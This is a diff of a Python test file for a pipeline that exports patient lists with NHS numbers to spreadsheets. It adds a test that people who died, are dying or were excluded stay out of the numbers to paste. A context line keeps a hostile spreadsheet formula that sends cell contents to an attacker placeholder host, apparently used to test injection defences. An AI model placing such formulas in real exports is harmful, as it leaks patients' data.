@@ -22,7 +22,7 @@ from pipelines.release import release_list
 from pipelines.release.paper import PARTS
 from pipelines.release.sealing import opened, refuse_weak
 from pipelines.release.wording import COLUMNS, LAST_REVIEW, PRACTICE, SINCE_PUBLICATION
-from pipelines.reviews import load_outcomes, read_reviews
+from pipelines.reviews import Review, ReviewStore, load_outcomes, read_reviews
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -132,7 +132,7 @@ def test_numbers_and_codes_are_text_and_the_numbers_to_paste_have_ten_digits(
     rows = sheet_rows(workbook, "List")
     assert [row[1] for row in rows] == ["NHS number", "943 476 5919", upstream.patient_key]
     assert sheet_rows(workbook, "Numbers to paste") == [["NHS number"], ["9434765919"]]
-    assert "The NHS number of 1 people is not known here: their pseudonym stands in its place." in done.reminders
+    assert "The NHS number of 1 person is not known here: a pseudonym stands in its place." in done.reminders
     with zipfile.ZipFile(io.BytesIO(workbook)) as book:
         strings = book.read("xl/sharedStrings.xml").decode()
         assert "<t>9434765919</t>" in strings
@@ -140,6 +140,28 @@ def test_numbers_and_codes_are_text_and_the_numbers_to_paste_have_ten_digits(
     (entry,) = AuditTrail(data).entries()
     assert entry["nhs_numbers"] == 1
     assert "9434765919" not in (data.state / "audit.jsonl").read_text()
+
+
+def test_nobody_who_is_not_to_be_invited_is_among_the_numbers_to_paste(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Likely end of life, died, moved, excluded since the publication: on the list, and not in a bulk invitation."""
+    monkeypatch.setenv("OPIOIDS_KEY_FILE", str(tmp_path / "key"))
+    data = DataFolder(tmp_path / "data")
+    data.prepare()
+    numbers = ("9434765919", "9990000018", "9990000026", "9990000034")
+    keyed = open_door(data).pass_through(numbers, "x.csv")
+    well, dying, died, cancer = (str(each.patient_key) for each in keyed)
+    published(data.root, [person(well), person(dying, palliative_proxy="strong"), person(died), person(cancer)])
+    ReviewStore(data).add(
+        [Review(died, MONTH, "died", "AB"), Review(cancer, MONTH, "excluded: cancer", "AB")],
+        "somebody",
+    )
+    out = tmp_path / "list.xlsx"
+    done = release_list(request(out, with_nhs_numbers=True), data)
+    assert sheet_rows(unsealed(out), "Numbers to paste") == [["NHS number"], ["9434765919"]]
+    assert any("'Numbers to paste' leaves out 3 people" in line for line in done.reminders)
+    assert done.people == 4
 
 
 def test_without_the_option_there_is_no_number(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
